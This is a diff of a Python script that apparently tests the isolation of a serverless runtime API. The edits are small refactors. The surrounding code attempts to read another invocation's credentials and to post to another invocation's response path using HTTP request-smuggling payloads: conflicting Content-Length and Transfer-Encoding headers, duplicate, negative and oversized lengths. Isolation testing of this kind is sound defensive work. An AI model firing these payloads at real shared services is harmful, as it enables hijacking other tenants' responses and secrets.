@@ -9,8 +9,8 @@ import urllib.request
 SUPERVISOR = os.getppid()
 
 
-def post(path, body=b"{}", headers={}):
-    request = urllib.request.Request(f"http://{API}{path}", data=body, method="POST", headers=headers)
+def post(path, body=b"{}", headers=None):
+    request = urllib.request.Request(f"http://{API}{path}", data=body, method="POST", headers=headers or {})
     try:
         return urllib.request.urlopen(request, timeout=5).status
     except urllib.error.HTTPError as error:
@@ -47,7 +47,7 @@ def credentials_of_another(event):
     try:
         return urllib.request.urlopen(request, timeout=5).read().decode()
     except urllib.error.HTTPError as error:
-        raise OSError(errno.EACCES, str(error.code))
+        raise OSError(errno.EACCES, str(error.code)) from error
 
 
 @attempt
@@ -56,8 +56,9 @@ def smuggle(event):
     host, port = API.split(":")
     answers = []
     path = f"/2018-06-01/runtime/invocation/{event['other']}/response"
+    second = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{{}}"
     for raw in (
-        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{{}}",
+        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}",
         f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{{}}",
         f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
         f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\n\r\n",
